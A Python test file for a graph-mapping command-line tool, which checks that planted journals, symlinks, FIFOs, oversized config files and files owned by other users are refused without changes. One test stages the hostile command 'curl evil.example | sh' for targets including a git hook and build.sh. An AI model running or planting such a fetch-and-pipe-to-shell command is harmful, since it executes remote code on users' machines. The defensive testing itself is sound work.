"""Trust: a map you clone or find in a shared folder can never act on your files.

The state the tool keeps and finds (the journal, the load cache, ``takeoff.toml``, the lock,
who owns the corpus) is checked as data that may be hostile: planted state is refused, by
name, and changes nothing. Tests run as root here; other users are played by ``os.chown``
to an unused uid inside a private temporary folder.
"""
import hashlib
import json
import os
import stat
import threading
from pathlib import Path

import pytest

from helpers import write_node
from graph.files import store

OTHER_UID = 54321
needs_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                                reason="playing another user needs chown (root)")


def tree(folder):
    """Every file below ``folder`` with its bytes, links as their targets; the lock and the
    load cache aside (neither is part of what a refusal must keep)."""
    out = {}
    for path in sorted(Path(folder).rglob("*")):
        rel = str(path.relative_to(folder))
        if path.name == store.LOCK_NAME or rel.startswith(".takeoff/cache") \
                or rel == ".takeoff/.gitignore":
            continue
        if path.is_symlink():
            out[rel] = ("link", os.readlink(path))
        elif path.is_file():
            out[rel] = path.read_bytes()
    return out


def plant(root, writes=(), deletes=(), state="commit", txid="0123456789abcdef"):
    """Plant a journal, as a map repository or another user could: ``writes`` is
    ``[(target rel, text)]`` (each text staged as the tool names temporaries, with its size
    and checksum recorded), ``deletes`` ``[target rel]``. Returns the journal's path."""
    entries, dels = [], []
    for rel, text in writes:
        data = text.encode() if isinstance(text, str) else text
        folder, name = os.path.split(rel)
        temp = os.path.join(folder, f".{name}.{txid}.new.tmp")
        (root / temp).parent.mkdir(parents=True, exist_ok=True)
        (root / temp).write_bytes(data)
        entries.append([rel, temp, len(data), hashlib.sha256(data).hexdigest()])
    for rel in deletes:
        folder, name = os.path.split(rel)
        marker = os.path.join(folder, f".{name}.{txid}.del.tmp")
        (root / marker).parent.mkdir(parents=True, exist_ok=True)
        (root / marker).write_bytes(b"")
        dels.append([rel, marker])
    journal = store.journal_path(root)
    journal.parent.mkdir(parents=True, exist_ok=True)
    journal.write_text(json.dumps({"version": store.JOURNAL_VERSION, "state": state,
                                   "writes": entries, "deletes": dels, "dirs": []}))
    return journal


@pytest.fixture
def old_enough(monkeypatch):
    """Files written by the test count as older than the load cache's racy window, so that a
    load caches them (and writes the cache) at once."""
    import time

    import graph.files.cache

    real = time.time_ns
    monkeypatch.setattr(graph.files.cache.time, "time_ns", lambda: real() + 60 * 10 ** 9)


def refused_by_every_command(run, root, journal, *, why=None):
    before = tree(root.parent)
    for args in (["list"], ["check"], ["set", "m1", "title", "Changed"]):
        result = run(root, *args)
        assert result.exit_code == 1, (args, result.output)
        assert "Traceback" not in result.output
        assert "not a journal this tool wrote" in result.stderr, result.stderr
        assert f"rm {os.path.relpath(journal)}" in result.stderr or str(journal) in result.stderr
        if why:
            assert why in result.stderr, result.stderr
        assert tree(root.parent) == before, args


# ---- item 1: a journal is a claim to check, never an order --------------------------------

@pytest.mark.parametrize("target", ["takeoff.toml", "build.sh", ".git/hooks/post-checkout",
                                    ".git/HEAD", "notes.txt", "README.md", "sub/.hidden/x.md",
                                    ".takeoff/txn/last.json", "perspectives/x/y.yaml"])
def test_a_planted_journal_writing_outside_the_node_layout_is_refused(small_corpus, run, target):
    root = small_corpus
    (root / "takeoff.toml").write_text('title = "mine"\n')
    (root / "build.sh").write_text("make\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    journal = plant(root, writes=[(target, "curl evil.example | sh\n")])
    refused_by_every_command(run, root, journal, why="not a node or perspective file")
    assert (root / "takeoff.toml").read_text() == 'title = "mine"\n'


@pytest.mark.parametrize("target", [".git/HEAD", ".git/index", "notes.txt", "takeoff.toml",
                                    "secret.key"])
def test_a_planted_journal_deleting_outside_the_node_layout_is_refused(small_corpus, run, target):
    root = small_corpus
    for name in (".git/HEAD", ".git/index", "notes.txt", "takeoff.toml", "secret.key"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("# keep\n")
    journal = plant(root, deletes=[target])
    refused_by_every_command(run, root, journal)
    assert (root / target).read_text() == "# keep\n"


def test_a_planted_journal_cannot_reach_outside_the_corpus(small_corpus, run):
    root = small_corpus
    (root.parent / "outside.md").write_text("keep\n")
    journal = plant(root, writes=[("../outside.md", "evil\n")])
    refused_by_every_command(run, root, journal)


def test_a_staged_text_that_is_not_what_the_journal_recorded_is_refused(small_corpus, run):
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: Recorded\n---\n")])
    staged = next(root.glob(".m1.md.*.new.tmp"))
    staged.write_text("---\nkind: model\ntitle: Swapped, same siz\n---\n"[:staged.stat().st_size])
    refused_by_every_command(run, root, journal, why="checksum")
    staged.write_text("---\nkind: model\ntitle: Longer than recorded\n---\n")
    refused_by_every_command(run, root, journal, why="bytes")


def test_a_temporary_not_named_as_the_tool_names_them_is_refused(small_corpus, run):
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: X\n---\n")])
    data = json.loads(journal.read_text())
    (root / "payload").write_text("---\nkind: model\ntitle: X\n---\n")
    data["writes"][0][1] = "payload"
    journal.write_text(json.dumps(data))
    refused_by_every_command(run, root, journal, why="not named as takeoff names")


def test_links_in_a_journal_are_never_followed(small_corpus, run, tmp_path):
    root = small_corpus
    # A staged temporary that is a link to a file holding exactly the recorded text.
    text = "---\nkind: model\ntitle: Through a link\n---\n"
    journal = plant(root, writes=[("m1.md", text)])
    staged = next(root.glob(".m1.md.*.new.tmp"))
    staged.unlink()
    (tmp_path / "elsewhere.txt").write_text(text)
    staged.symlink_to(tmp_path / "elsewhere.txt")
    refused_by_every_command(run, root, journal, why="symbolic link")
    # A folder on the way to a target that is a link out of the corpus.
    for path in root.glob(".*.tmp"):
        path.unlink()
    (tmp_path / "away").mkdir()
    (root / "sub").symlink_to(tmp_path / "away", target_is_directory=True)
    journal = plant(root, writes=[("sub/x.md", text)])
    refused_by_every_command(run, root, journal, why="symbolic link")
    assert not (tmp_path / "away" / "x.md").exists()
    # The journal itself a link to a well-formed journal kept elsewhere.
    (root / "sub").unlink()
    for path in root.glob(".*.tmp"):
        path.unlink()
    journal = plant(root, writes=[("m1.md", text)])
    (tmp_path / "journal.json").write_text(journal.read_text())
    journal.unlink()
    journal.symlink_to(tmp_path / "journal.json")
    refused_by_every_command(run, root, journal, why="symbolic link")


@needs_root
def test_another_users_temporaries_or_journal_are_refused(small_corpus, run):
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: Theirs\n---\n")])
    staged = next(root.glob(".m1.md.*.new.tmp"))
    os.chown(staged, OTHER_UID, OTHER_UID)
    refused_by_every_command(run, root, journal, why=f"uid {OTHER_UID}")
    os.chown(staged, 0, 0)
    os.chown(journal, OTHER_UID, OTHER_UID)
    refused_by_every_command(run, root, journal, why=f"uid {OTHER_UID}")
    os.chown(journal, 0, 0)
    os.chown(journal.parent, OTHER_UID, OTHER_UID)
    result = run(root, "list")
    assert result.exit_code == 1 and f"uid {OTHER_UID}" in result.stderr
    os.chown(journal.parent, 0, 0)
    # Even a prepared journal (rolled back: its temporaries removed) may not remove theirs.
    journal = plant(root, writes=[("m1.md", "half")], state="prepare")
    os.chown(staged, OTHER_UID, OTHER_UID)
    refused_by_every_command(run, root, journal, why=f"uid {OTHER_UID}")
    assert staged.exists()


def test_a_journal_the_tool_wrote_is_still_finished(small_corpus, run):
    """The checks refuse only what the tool could not have written."""
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: Rolled forward\n---\n")],
                    deletes=["c2.md"])
    text = (root / "c1.md").read_text()
    (root / "c1.md").write_text(text.replace("  - target: m1\n    weight: 0.8\n    note: because\n",
                                             "  - target: m1\n"))
    result = run(root, "show", "m1")
    assert result.exit_code == 0, result.output
    assert "Rolled forward" in result.output
    assert not journal.exists() and not (root / "c2.md").exists()
    assert not list(root.glob(".*.tmp"))


# ---- item 1: the rest of the state under .takeoff/ -----------------------------------------

def test_a_takeoff_folder_that_is_a_link_is_not_written_through(small_corpus, run, tmp_path, old_enough):
    away = tmp_path / "away"
    away.mkdir()
    (small_corpus / ".takeoff").symlink_to(away, target_is_directory=True)
    assert run(small_corpus, "list").exit_code == 0  # reads work; nothing is cached there
    assert run(small_corpus, "score").exit_code == 0
    assert list(away.iterdir()) == []
    result = run(small_corpus, "set", "m1", "title", "New")
    assert result.exit_code == 1 and "a symbolic link" in result.stderr
    assert list(away.iterdir()) == []


def test_a_dangling_gitignore_link_in_the_state_folder_writes_nothing(small_corpus, run, tmp_path,
                                                                     old_enough):
    (small_corpus / ".takeoff").mkdir()
    (small_corpus / ".takeoff" / ".gitignore").symlink_to(tmp_path / "created-by-takeoff")
    assert run(small_corpus, "score").exit_code == 0
    assert (small_corpus / ".takeoff" / "cache").is_file()   # the cache was written beside it
    assert run(small_corpus, "set", "m1", "title", "New").exit_code == 0
    assert not (tmp_path / "created-by-takeoff").exists()


def test_a_fifo_or_a_zero_device_as_the_cache_neither_hangs_nor_exhausts(small_corpus, run):
    state = small_corpus / ".takeoff"
    state.mkdir()
    os.mkfifo(state / "cache")
    result = run(small_corpus, "list")  # would block forever on open() before
    assert result.exit_code == 0 and "m1" in result.output
    assert stat.S_ISFIFO(os.lstat(state / "cache").st_mode)  # nor replaced
    (state / "cache").unlink()
    (state / "cache").symlink_to("/dev/zero")
    result = run(small_corpus, "list")  # MemoryError before
    assert result.exit_code == 0 and "m1" in result.output
    assert os.readlink(state / "cache") == "/dev/zero"


@needs_root
def test_another_users_lock_is_refused(small_corpus, run):
    lock = small_corpus / store.LOCK_NAME
    lock.write_text("")
    os.chown(lock, OTHER_UID, OTHER_UID)
    result = run(small_corpus, "set", "m1", "title", "New")
    assert result.exit_code == 1 and f"uid {OTHER_UID}" in result.stderr


# ---- item 2: a corpus owned by someone else --------------------------------------------------

@needs_root
@pytest.mark.parametrize("what", ["folder", "marker"])
@pytest.mark.parametrize("args", [["list"], ["check"], ["score"], ["show", "m1"],
                                  ["set", "m1", "title", "Mine"]])
def test_a_corpus_another_user_owns_is_refused_for_every_command(small_corpus, run, monkeypatch,
                                                                 what, args):
    monkeypatch.delenv("TAKEOFF_SAFE_DIRECTORIES", raising=False)
    (small_corpus / "takeoff.toml").write_text('title = "theirs"\n')
    os.chown(small_corpus if what == "folder" else small_corpus / "takeoff.toml", OTHER_UID, OTHER_UID)
    before = tree(small_corpus)
    result = run(small_corpus, *args)
    assert result.exit_code == 1
    assert f"uid {OTHER_UID}" in result.stderr and "TAKEOFF_SAFE_DIRECTORIES" in result.stderr
    assert tree(small_corpus) == before and not (small_corpus / ".takeoff").exists()
    monkeypatch.setenv("TAKEOFF_SAFE_DIRECTORIES", f"/nowhere{os.pathsep}{small_corpus}")
    assert run(small_corpus, *args).exit_code == 0
    monkeypatch.setenv("TAKEOFF_SAFE_DIRECTORIES", "*")
    assert run(small_corpus, "list").exit_code == 0


@needs_root
def test_discovery_refuses_another_users_corpus_above_the_working_folder(tmp_path, monkeypatch):
    """A victim in an unmarked folder of a shared folder must not write into a corpus planted
    above it."""
    from click.testing import CliRunner

    from cli import cli

    shared = tmp_path / "shared"
    write_node(shared, "m1", "---\nkind: model\ntitle: Theirs\n---\n")
    (shared / "takeoff.toml").write_text('title = "theirs"\n')
    os.chown(shared, OTHER_UID, OTHER_UID)
    os.chown(shared / "takeoff.toml", OTHER_UID, OTHER_UID)
    mine = shared / "mine"
    mine.mkdir()
    monkeypatch.chdir(mine)
    monkeypatch.delenv("TAKEOFF_CORPUS", raising=False)
    monkeypatch.delenv("TAKEOFF_SAFE_DIRECTORIES", raising=False)
    result = CliRunner().invoke(cli, ["add", "claim", "my-claim", "--title", "Mine"])
    assert result.exit_code == 1 and "belongs to uid" in result.stderr
    assert sorted(p.name for p in shared.rglob("*.md")) == ["m1.md"]


# ---- item 3: takeoff.toml under the limits of every file -----------------------------------

@pytest.mark.parametrize("content, message", [
    (b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n", "takeoff.toml:1: nested deeper than 64 levels"),
    (b'title = "caf\xe9"\n', "takeoff.toml:1: not UTF-8 text"),
    (b'title = "x"\nsemantics = [\n', "takeoff.toml:2: not valid TOML"),
    (b"a = " + b"9" * 5000 + b"\n", "takeoff.toml: not valid TOML"),
    (b'title = "' + b"x" * (11 * 1024 * 1024) + b'"\n', "over the 10 MB limit"),
], ids=["deep", "latin-1", "unclosed", "long-integer", "11-MB"])
def test_a_hostile_takeoff_toml_is_refused_with_file_and_line(small_corpus, run, content, message):
    (small_corpus / "takeoff.toml").write_bytes(content)
    for args in (["list"], ["check"]):
        result = run(small_corpus, *args)
        assert result.exit_code == 1 and "Traceback" not in result.output
        assert message in result.stderr, result.stderr


def test_a_takeoff_toml_fifo_or_link_out_is_refused(small_corpus, run, tmp_path):
    os.mkfifo(small_corpus / "takeoff.toml")
    result = run(small_corpus, "list")
    assert result.exit_code == 1 and "a FIFO" in result.stderr
    (small_corpus / "takeoff.toml").unlink()
    (tmp_path / "elsewhere.toml").write_text('title = "x"\n')
    (small_corpus / "takeoff.toml").symlink_to(tmp_path / "elsewhere.toml")
    result = run(small_corpus, "list")
    assert result.exit_code == 1 and "outside the corpus" in result.stderr


def test_a_byte_order_mark_in_takeoff_toml_is_skipped(small_corpus, run):
    (small_corpus / "takeoff.toml").write_bytes(b'\xef\xbb\xbftitle = "x"\nsemantics = "dfquad"\n')
    result = run(small_corpus, "list")
    assert result.exit_code == 0, result.output


# ---- item 4: outputs never replace what is not a regular file -------------------------------

def test_export_to_a_fifo_writes_into_it_and_keeps_it(small_corpus, run, tmp_path):
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run(small_corpus, "export", "--format", "node-link", "-o", fifo)
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # replaced by a regular file before
    assert got and json.loads(got[0])["nodes"]


@needs_root
def test_html_to_a_character_device_writes_into_it_and_keeps_it(small_corpus, run, tmp_path):
    """A stand-in for /dev/null made in a private folder (the machine's /dev is never touched)."""
    null = tmp_path / "null"
    try:
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, OSError):
        pytest.skip("mknod not allowed here")
    result = run(small_corpus, "html", "-o", null)
    assert result.exit_code == 0, result.output
    assert stat.S_ISCHR(os.lstat(null).st_mode)  # an 886 KB regular file before


def test_an_output_through_a_link_keeps_the_link_and_a_folder_is_refused(small_corpus, run, tmp_path):
    real = tmp_path / "real.json"
    real.write_text("old")
    link = tmp_path / "out.json"
    link.symlink_to(real)
    assert run(small_corpus, "export", "-o", link).exit_code == 0
    assert link.is_symlink() and json.loads(real.read_text())["nodes"]
    folder = tmp_path / "folder.json"
    folder.mkdir()
    assert run(small_corpus, "export", "-o", folder).exit_code != 0   # a usage error of click
    with pytest.raises(store.TakeoffError, match="a folder, not a regular file; refused"):
        store.atomic_write(folder, "x")
    assert folder.is_dir()


# ---- item 4: no write produces a file the tool then refuses to read -------------------------

BIG = "x" * (10 * 1024 * 1024 + 1000)


def test_writes_over_the_read_limit_are_refused_before_anything_is_written(small_corpus, run, tmp_path):
    before = tree(small_corpus)
    for args in (["add", "claim", "big", "--title", "Big", "--body", BIG],
                 ["set", "m1", "body", BIG]):
        result = run(small_corpus, *args)
        assert result.exit_code == 1 and "over the 10 MB limit" in result.stderr, result.output
        assert "Traceback" not in result.output
    data = tmp_path / "big.json"
    data.write_text(json.dumps({"nodes": [{"id": "big", "kind": "claim", "title": "Big",
                                           "body": BIG}], "edges": []}))
    result = run(small_corpus, "import", data)
    assert result.exit_code == 1 and "over the 10 MB limit" in result.stderr, result.output
    from graph.files.edit import replace_node_text

    with pytest.raises(Exception, match="over the 10 MB limit"):
        replace_node_text(small_corpus, "m1", "---\nkind: model\ntitle: T\n---\n" + BIG)
    assert tree(small_corpus) == before
    assert run(small_corpus, "check").exit_code == 0


def test_a_pull_of_an_oversized_title_writes_nothing(tmp_path):
    from graph.files.edit import sync_corpus
    from graph.formats.nodelink import import_node_link

    graph = import_node_link(json.dumps({"nodes": [{"id": "big", "kind": "claim", "title": BIG}],
                                         "edges": []}))
    folder = tmp_path / "pulled"
    with pytest.raises(Exception, match="over the 10 MB limit"):
        sync_corpus(folder, graph)
    assert not folder.exists()


# ---- item 4: one malformed URL is a validation error in every command ------------------------

@pytest.mark.parametrize("url", ["http://[::1", "https://[x]/a"])
def test_a_malformed_bracketed_url_is_a_validation_error_everywhere(small_corpus, run, tmp_path, url):
    write_node(small_corpus, "bad", f'---\nkind: claim\ntitle: Bad\nsources:\n  - url: "{url}"\n---\n')
    for args in (["check"], ["html", "-o", tmp_path / "map.html"]):
        result = run(small_corpus, *args)
        assert result.exit_code == 1 and "Traceback" not in result.output, result.output
        assert "bad.md:5: source url" in result.output and "not a well-formed" in result.output
    (small_corpus / "bad.md").unlink()
    for args in (["add", "claim", "new", "--title", "New", "--source", url],
                 ["source", "add", "m1", url]):
        result = run(small_corpus, *args)
        assert result.exit_code == 1 and "not a well-formed" in result.output, result.output
    data = tmp_path / "in.json"
    data.write_text(json.dumps({"nodes": [{"id": "n", "kind": "claim", "title": "N",
                                           "sources": [{"url": url}]}], "edges": []}))
    result = run(small_corpus, "import", data)
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output


# ---- item 4/5: perspective files, .rej files and linked nodes --------------------------------

def _takeoff(corpus, *args, timeout=30, env=None):
    """The command in its own process, so that a hang is a failure rather than a stuck run."""
    import subprocess
    import sys

    from helpers import REPO

    return subprocess.run([sys.executable, "-c", "from cli import main; main()", "--corpus",
                           str(corpus), *map(str, args)], cwd=REPO, capture_output=True,
                          text=True, timeout=timeout,
                          env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})})


def test_mv_reads_perspective_files_through_the_guarded_read(small_corpus):
    (small_corpus / "perspectives").mkdir()
    os.mkfifo(small_corpus / "perspectives" / "p.yaml")
    result = _takeoff(small_corpus, "mv", "c2", "c3")   # hung, holding the lock, before
    assert result.returncode == 1 and "p.yaml" in result.stderr and "FIFO" in result.stderr
    (small_corpus / "perspectives" / "p.yaml").unlink()
    (small_corpus / "perspectives" / "p.yaml").symlink_to("/dev/zero")
    result = _takeoff(small_corpus, "mv", "c2", "c3")   # read 2.6 GB before
    assert result.returncode == 1 and "outside the corpus" in result.stderr
    assert (small_corpus / "c2.md").exists() and not (small_corpus / "c3.md").exists()


# Every file the tool reads, with a command that reads it and whether the command still
# succeeds (state the tool keeps is ignored when unreadable) or names the file and stops.
READ_PLACES = {
    "node file": ("x.md", ["list"], False),
    "takeoff.toml": ("takeoff.toml", ["list"], False),
    "perspective (score)": ("perspectives/p.yaml", ["score", "--perspective", "p"], False),
    "perspective (check)": ("perspectives/p.yaml", ["check"], False),
    "load cache": (".takeoff/cache", ["list"], True),
    "journal": (".takeoff/txn/journal.json", ["list"], False),
    "refused edit text": ("c1.md.rej", ["edit", "c1"], False),
    "query file": ("OUT/q.rq", ["sparql", "@OUT/q.rq"], False),
    "import input": ("OUT/in.json", ["import", "OUT/in.json"], False),
    "signing key": ("KEY/takeoff/key", ["list"], True),
}


@pytest.mark.parametrize("kind", ["fifo", "endless"])
@pytest.mark.parametrize("place", sorted(READ_PLACES))
def test_every_file_the_tool_reads_is_read_by_the_guarded_read(small_corpus, tmp_path, place, kind):
    """A FIFO never hangs a command, and a link to an endless file (a sparse file far over
    every limit, standing in for /dev/zero) is never read whole: each is ignored (the tool's
    own cache and key) or refused naming the file, with nothing changed."""
    rel, args, succeeds = READ_PLACES[place]
    outside, key = tmp_path / "outside", tmp_path / "xdg"
    outside.mkdir()
    path = Path(str(small_corpus / rel).replace(str(small_corpus / "OUT"), str(outside))
                .replace(str(small_corpus / "KEY"), str(key)))
    path.parent.mkdir(parents=True, exist_ok=True)
    before = tree(small_corpus)
    if kind == "fifo":
        os.mkfifo(path)
    else:
        endless = small_corpus / "endless.bin"
        with open(endless, "wb") as out:
            out.truncate(4 << 30)   # 4 GB of zeros, sparse: no disk used
        path.symlink_to(endless)
    args = [str(a).replace("OUT", str(outside)) for a in args]
    env = {"XDG_CACHE_HOME": str(key), "EDITOR": "true", "VISUAL": "true"}
    result = _takeoff(small_corpus, *args, timeout=30, env=env)
    assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr, result.stderr
    if succeeds:
        assert result.returncode == 0, result.stderr
    else:
        assert result.returncode == 1, (result.stdout, result.stderr)
        assert path.name in result.stderr and ("FIFO" in result.stderr or "limit" in result.stderr
                                               or "link" in result.stderr), result.stderr
    path.unlink()
    (small_corpus / "endless.bin").unlink(missing_ok=True)
    assert tree(small_corpus) == before


def test_a_fifo_cache_does_not_hang_a_command_in_its_own_process(small_corpus):
    (small_corpus / ".takeoff").mkdir()
    os.mkfifo(small_corpus / ".takeoff" / "cache")
    result = _takeoff(small_corpus, "list")
    assert result.returncode == 0 and "m1" in result.stdout


def test_edit_refuses_a_rej_file_that_is_a_link(small_corpus, tmp_path, monkeypatch, run):
    secret = tmp_path / "secret.txt"
    secret.write_text("not for the editor\n")
    (small_corpus / "m1.md.rej").symlink_to(secret)
    editor = tmp_path / "editor.sh"
    editor.write_text("#!/bin/sh\ncp \"$1\" " + str(tmp_path / "seen") + "\n")
    editor.chmod(0o755)
    monkeypatch.setenv("EDITOR", str(editor))
    monkeypatch.setenv("VISUAL", str(editor))
    result = run(small_corpus, "edit", "m1")
    assert result.exit_code == 1 and "symbolic link" in result.stderr
    assert not (tmp_path / "seen").exists() and secret.read_text() == "not for the editor\n"


def test_a_perspective_file_with_a_non_slug_name_is_named_and_blocks_no_write(small_corpus, run):
    (small_corpus / "perspectives").mkdir()
    (small_corpus / "perspectives" / "My View.yaml").write_text("credences:\n  c1: 0.3\n")
    result = run(small_corpus, "set", "m1", "title", "Still writable")
    assert result.exit_code == 0, result.output
    result = run(small_corpus, "check")
    assert result.exit_code == 1 and "My View.yaml" in result.output
    assert "not a valid perspective name" in result.output


@pytest.mark.parametrize("args", [["set", "c2", "title", "X"], ["source", "add", "c2", "https://example.org/"],
                                  ["mv", "c2", "c3"], ["link", "c2", "m1", "--undermines"]])
def test_a_node_linked_inside_the_corpus_is_refused_by_every_write_the_same_way(small_corpus, run, args):
    """One rule: reads follow a link inside the corpus; no write follows or replaces one (set
    replaced the link with a copy; source and mv called it 'outside the corpus')."""
    hidden = small_corpus / ".real"
    hidden.mkdir()
    (small_corpus / "c2.md").rename(hidden / "c2.md")
    (small_corpus / "c2.md").symlink_to(hidden / "c2.md")
    before = tree(small_corpus)
    assert run(small_corpus, "show", "c2").exit_code == 0
    result = run(small_corpus, *args)
    assert result.exit_code == 1, result.output
    assert "c2.md is a symbolic link" in result.stderr and "never writes through a link" in result.stderr
    assert tree(small_corpus) == before


# ---- item 6: settings, markers and the crash hook -------------------------------------------

def test_every_command_honours_the_corpus_semantics(small_corpus, run):
    (small_corpus / "takeoff.toml").write_text('semantics = "dfquad"\n')
    shown = json.loads(run(small_corpus, "show", "m1", "--json").output)
    assert shown["semantics"] == "dfquad"   # qe before
    scored = json.loads(run(small_corpus, "score", "--json").output)
    assert scored["semantics"] == "dfquad"
    assert shown["strength"] == pytest.approx(scored["nodes"]["m1"]["strength"], abs=1e-9)


# Each command that scores, with what to compare: its output, or the file it writes (OUT).
SCORING_COMMANDS = {
    "why": ["why", "m1", "--json"],
    "tree": ["tree", "m1", "--json"],
    "history": ["history", "--json"],
    "html": ["html", "-o", "OUT"],
    "export": ["export", "--format", "turtle", "--with-strengths", "-o", "OUT"],
    "sparql": ["sparql", "--with-strengths", "--json",
               "SELECT ?n ?s WHERE { ?n <https://w3id.org/takeoff-graph/vocab#strength> ?s } ORDER BY ?n"],
    "compare": ["compare", "mine", "base", "--json"],
    "robustness": ["robustness", "--samples", "16", "--seed", "1", "--json"],
    "evidence": ["evidence", "--json"],
    "diff": ["diff", "BEFORE", "CORPUS", "--json"],
    "score": ["score", "--json"],
}


@pytest.mark.parametrize("name", sorted(SCORING_COMMANDS))
def test_each_scoring_command_uses_the_semantics_of_takeoff_toml(small_corpus, run, tmp_path, name):
    """With `semantics = "dfquad"` in takeoff.toml and no --semantics, a command gives exactly
    what it gives with --semantics dfquad, and not what it gives with qe."""
    import shutil

    before = tmp_path / "before"
    shutil.copytree(small_corpus, before)
    (small_corpus / "c1.md").write_text((small_corpus / "c1.md").read_text().replace("0.6", "0.3"))
    (small_corpus / "perspectives").mkdir()
    (small_corpus / "perspectives" / "mine.yaml").write_text("credences:\n  c2: 0.9\n")
    (small_corpus / "takeoff.toml").write_text('semantics = "dfquad"\n')

    def output(*extra):
        out = tmp_path / f"out{len(list(tmp_path.glob('out*')))}"
        args = [{"OUT": out, "BEFORE": before, "CORPUS": small_corpus}.get(a, a)
                for a in SCORING_COMMANDS[name]]
        result = run(small_corpus, *args, *extra)
        assert result.exit_code == 0, (args, result.output, result.stderr)
        return out.read_bytes().replace(out.name.encode(), b"") if out.exists() else result.stdout

    settled = output()
    assert settled == output("--semantics", "dfquad")
    assert settled != output("--semantics", "qe")


def test_a_folder_made_by_pull_is_marked(tmp_path, monkeypatch):
    from graph.files.config import find_corpus
    from graph.files.edit import sync_corpus
    from graph.formats.nodelink import import_node_link

    graph = import_node_link(json.dumps({"nodes": [{"id": "a", "kind": "claim", "title": "A"}],
                                         "edges": []}))
    folder = tmp_path / "pulled"
    sync_corpus(folder, graph)
    assert (folder / "takeoff.toml").is_file()
    monkeypatch.delenv("TAKEOFF_CORPUS", raising=False)
    assert find_corpus(cwd=folder).root.resolve() == folder.resolve()


def test_every_corpus_a_command_makes_is_marked(tmp_path, run, monkeypatch):
    """`init` marks the folder it makes; `import` makes no corpus: into a folder that is none
    (missing, or empty) it is refused and leaves nothing, so no unmarked corpus is ever made
    (pull: test_a_folder_made_by_pull_is_marked)."""
    from click.testing import CliRunner

    from cli import cli

    monkeypatch.delenv("TAKEOFF_CORPUS", raising=False)
    source = tmp_path / "in.json"
    source.write_text(json.dumps({"nodes": [{"id": "a", "kind": "claim", "title": "A"}], "edges": []}))
    (tmp_path / "empty").mkdir()
    for folder in (tmp_path / "missing", tmp_path / "empty"):
        result = run(folder, "import", source)
        assert result.exit_code == 1 and "takeoff init" in result.stderr
        assert not any(folder.glob("*")) if folder.exists() else True
    assert not (tmp_path / "missing").exists()
    made = tmp_path / "made"
    result = CliRunner().invoke(cli, ["init", str(made)])
    assert result.exit_code == 0 and (made / "takeoff.toml").is_file()
    assert run(made, "import", source).exit_code == 0 and (made / "a.md").is_file()


def test_the_crash_hook_cannot_be_set_from_the_environment(small_corpus, monkeypatch):
    monkeypatch.setenv("TAKEOFF_TEST_CRASH_STEP", "1")   # ended the process with 77 before
    result = _takeoff(small_corpus, "set", "m1", "title", "Written", timeout=60)
    assert result.returncode == 0, result.stderr
    assert "title: Written" in (small_corpus / "m1.md").read_text()
    assert not hasattr(store, "CRASH_ENV")


# ---- fuzzing the new surfaces: takeoff.toml bytes, journal shapes ----------------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

TOML_PIECES = st.sampled_from([b"title = ", b'"x"', b"'y'", b"[", b"]", b"{", b"}", b"=", b"\n",
                               b"semantics", b"spread = 0.1", b"1e999", b"\xef\xbb\xbf", b"\xff",
                               b"#", b'"""', b"[[a]]", b"\x00", b"nan", b"9" * 50, b"."])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(TOML_PIECES, max_size=30).map(b"".join) | st.binary(max_size=200))
def test_any_takeoff_toml_gives_a_result_or_a_message_never_a_traceback(small_corpus, run, data):
    (small_corpus / "takeoff.toml").write_bytes(data)
    result = run(small_corpus, "list")
    assert result.exit_code in (0, 1), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    if result.exit_code == 1:
        assert "takeoff.toml" in result.stderr


PATHS = st.sampled_from(["m1.md", "c1.md", "new.md", "sub/new.md", "takeoff.toml", "../x.md",
                         ".git/HEAD", "/etc/passwd", "perspectives/p.yaml", "perspectives/A.yaml",
                         "", ".", "sub/../m1.md", "m1.md/x", 3, None])
ENTRY = st.lists(st.one_of(PATHS, st.integers(-1, 99), st.text(max_size=5)), max_size=5)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.fixed_dictionaries({"version": st.sampled_from([1, 2, "2", None]),
                              "state": st.sampled_from(["commit", "prepare", "done"]),
                              "writes": st.lists(ENTRY, max_size=3),
                              "deletes": st.lists(ENTRY, max_size=3),
                              "dirs": st.lists(PATHS, max_size=2)}))
def test_any_planted_journal_is_finished_or_refused_and_touches_only_node_files(tmp_path_factory, journal):
    """Whatever a journal says, recovery either refuses it (changing nothing) or changes only
    node and perspective files of the corpus."""
    from helpers import write_node

    base = tmp_path_factory.mktemp("j")
    root = base / "claims"
    write_node(root, "m1", "---\nkind: model\ntitle: M\n---\n")
    write_node(root, "c1", "---\nkind: claim\ntitle: C\n---\n")
    (root / "takeoff.toml").write_text('title = "t"\n')
    (base / "x.md").write_text("outside\n")
    path = store.journal_path(root)
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(journal))
    before = tree(base)
    try:
        store.recover(root)
    except store.TakeoffError as exc:
        assert "not a journal this tool wrote" in str(exc)
        assert tree(base) == before
        return
    after = tree(base)
    for rel in set(before) | set(after):
        if before.get(rel) != after.get(rel):
            inside = os.path.relpath(base / rel, root)
            assert store.layout_error(inside) is None or inside.startswith(".takeoff"), rel
